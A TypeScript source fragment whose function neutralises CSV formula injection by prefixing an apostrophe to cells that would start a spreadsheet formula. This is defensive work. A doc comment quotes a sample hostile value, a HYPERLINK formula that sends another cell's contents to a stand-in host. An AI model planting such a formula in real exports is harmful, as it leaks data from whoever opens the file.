/** First characters that make a spreadsheet read a cell as a formula (or, for tab and CR, hide one). */
const FORMULA_START = /^[=+\-@\t\r]/;
/**
 * A formula start after a character some spreadsheets split CSV lines on (`;` in locales whose
 * decimal mark is a comma, tab, `|`, `,`), blanks and a quote between them allowed: split there,
 * the part after it would be a cell of its own that starts a formula.
 */
const FORMULA_AFTER_SEPARATOR = /([;,|\t][\s"']*)(?=[=+\-@\r])/g;

/**
 * A text cell of a CSV meant for people, made safe to open in a spreadsheet: a cell that would
 * start a formula (`=`, `+`, `-`, `@`, tab, carriage return) gets a leading apostrophe, which
 * spreadsheets show as text. So a name like `=HYPERLINK("http://x.example/?"&A2,"click")`,
 * typed into the catalog by anyone with the token, is shown, never run, by whoever opens the
 * export. The same goes for a formula start after a separator inside the cell (`Salt;=1+1`):
 * a spreadsheet that splits on `;` would make it a cell of its own, so it gets its apostrophe
 * too. Numbers are left alone (a negative coordinate stays a number); machine-read files
 * (submissions, boxes CSVs) are not written through this.
 *
 * @param cell - the cell's value
 * @returns the value, text cells neutralised
 * @example
 * spreadsheetSafe('=1+1');      // "'=1+1"
 * spreadsheetSafe('Salt;=1+1'); // "Salt;'=1+1"
 * spreadsheetSafe(-3);          // -3
 */
export function spreadsheetSafe<T>(cell: T): T | string {
  if (typeof cell !== 'string') return cell;
  const inner = cell.replace(FORMULA_AFTER_SEPARATOR, "$1'");
  return FORMULA_START.test(inner) ? `'${inner}` : inner;
}
